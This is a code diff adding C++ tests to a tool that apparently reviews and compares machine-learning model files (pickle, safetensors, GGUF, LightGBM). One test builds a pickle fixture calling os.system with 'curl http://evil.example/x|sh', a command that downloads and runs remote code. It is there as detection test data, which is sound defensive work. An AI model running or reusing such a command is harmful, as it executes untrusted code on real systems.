@@ -112,7 +112,10 @@ CUPEL_TEST(numbersAreComparedOneByOne)
         one("b.safetensors", safetensors(head, floats({1, 2, -3, nan, 9}))));
     REQUIRE(out.tensors.size() == 1 && out.tensors[0].difference);
     CHECK_EQ(out.sameTensors.count, 1U);
-    CHECK(out.complete && out.members.empty());
+    REQUIRE(out.complete && out.members.size() == 1 && out.members[0].bytes); // the file itself
+    CHECK_EQ(out.members[0].name, "b.safetensors");
+    CHECK_EQ(out.members[0].bytes->differing, 1U); // the sign
+    CHECK_EQ(out.members[0].bytes->first, 8 + head.size() + 11);
     const auto& change = out.tensors[0];
     CHECK_EQ(change.name, "w");
     CHECK(change.kind == ModelChange::Changed && change.values);
@@ -339,4 +342,81 @@ CUPEL_TEST(whatIsNoModelIsNotCompared)
 {
     Budget budget;
     CHECK(!review::compareModels(review::compare(one("a.py", "x = 1\n"), one("a.py", "x = 2\n")), budget));
+}
+
+// A cause that stays, with another command: a changed finding, and a line of the program.
+CUPEL_TEST(whatIsCalledIsComparedWithWhat)
+{
+    const auto calls = [](const std::string& command) {
+        return pickleOf("GLOBAL os system\nSHORT_BINUNICODE " + command + "\nTUPLE1\nREDUCE\n");
+    };
+    const auto before = one("a.pkl", calls("'echo hello'"));
+    const auto after = one("b.pkl", calls("'curl http://evil.example/x|sh'"));
+    const auto files = review::compare(before, after);
+    REQUIRE(files.size() == 1);
+    CHECK_EQ(files[0].count(review::FindingChange::Kind::Changed), 1U);
+    CHECK_EQ(files[0].count(review::FindingChange::Kind::Same), 0U);
+    REQUIRE(!files[0].findings.empty());
+    const auto [old, now] = review::changedExcerpts(files[0].findings.front());
+    CHECK(old.find("echo hello") != std::string::npos && now.find("curl") != std::string::npos);
+    const auto out = compared(before, after);
+    REQUIRE(out.programs.size() == 1);
+    const auto lines = review::linesOf(out.programs[0]);
+    CHECK(lines.removed == 1 && lines.added == 1);
+    CHECK(out.callables.empty());
+    const auto same = compared(before, one("c.pkl", calls("'echo hello'")));
+    CHECK(same.programs.empty() && same.samePrograms.count == 1 && same.members.empty());
+}
+
+// One byte of a constant that no list shows: the file is a row, with how many bytes differ and where.
+CUPEL_TEST(filesThatDifferNeverReadTheSame)
+{
+    const auto constant = [](char last) {
+        return pickleOf("SHORT_BINUNICODE '" + std::string(150, 'x') + last + "'\n");
+    };
+    const auto out = compared(one("a.pkl", constant('1')), one("a.pkl", constant('2')));
+    REQUIRE(out.members.size() == 1 && out.members[0].bytes);
+    CHECK_EQ(out.members[0].bytes->differing, 1U);
+    CHECK_EQ(out.members[0].bytes->first, 2 + 2 + 150U);
+    // More bytes at the end are told where the shorter file ends.
+    const auto longer = compared(one("a.pkl", constant('1')), one("a.pkl", constant('1') + "more"));
+    REQUIRE(longer.members.size() == 1 && longer.members[0].bytes);
+    CHECK_EQ(longer.members[0].bytes->differing, 4U);
+    CHECK_EQ(longer.members[0].bytes->first, constant('1').size());
+}
+
+// Whatever byte of a real model is another one, some row says so.
+CUPEL_TEST(everyByteOfRealModelsCounts)
+{
+    const std::string frameworks = CUPEL_SOURCE_DIR "/tests/data/frameworks/";
+    std::size_t files = 0;
+    for (const auto* name : {"gguf-0.19.0/llama.gguf", "lightgbm-4.7.0/model.txt", "xgboost-3.0.5/model.ubj"}) {
+        const auto bytes = test::readFile(frameworks + name).value_or("");
+        REQUIRE(!bytes.empty());
+        ++files;
+        for (std::size_t at = bytes.size() / 4; at < bytes.size(); at += bytes.size() / 4) {
+            auto other = bytes;
+            other[at] = static_cast<char>(other[at] ^ 1);
+            const auto out = compared(one(name, bytes), one(name, other));
+            REQUIRE(out.members.size() == 1 && out.members[0].bytes);
+            CHECK_EQ(out.members[0].bytes->first, at);
+        }
+    }
+    CHECK_EQ(files, 3U);
+}
+
+CUPEL_TEST(treesAreComparedOneByOne)
+{
+    const auto model = [](const std::string& value) {
+        return "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nmax_feature_idx=0\nfeature_names=a\n\nTree=0\n"
+               "num_leaves=2\nnum_cat=0\nsplit_feature=0\nthreshold=0.5\nleft_child=-1\nright_child=-2\nleaf_value=1 "
+               "2\n\n"
+               "Tree=1\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nthreshold=0.5\nleft_child=-1\nright_child=-2\nleaf_"
+               "value=1 "
+            + value + "\n\nend of trees\n";
+    };
+    const auto out = compared(one("a.txt", model("2")), one("b.txt", model("3")));
+    REQUIRE(out.metadata.size() == 1);
+    CHECK_EQ(out.metadata[0].key, "trees.1");
+    CHECK(out.metadata[0].kind == ModelChange::Changed && out.metadata[0].before != out.metadata[0].after);
 }
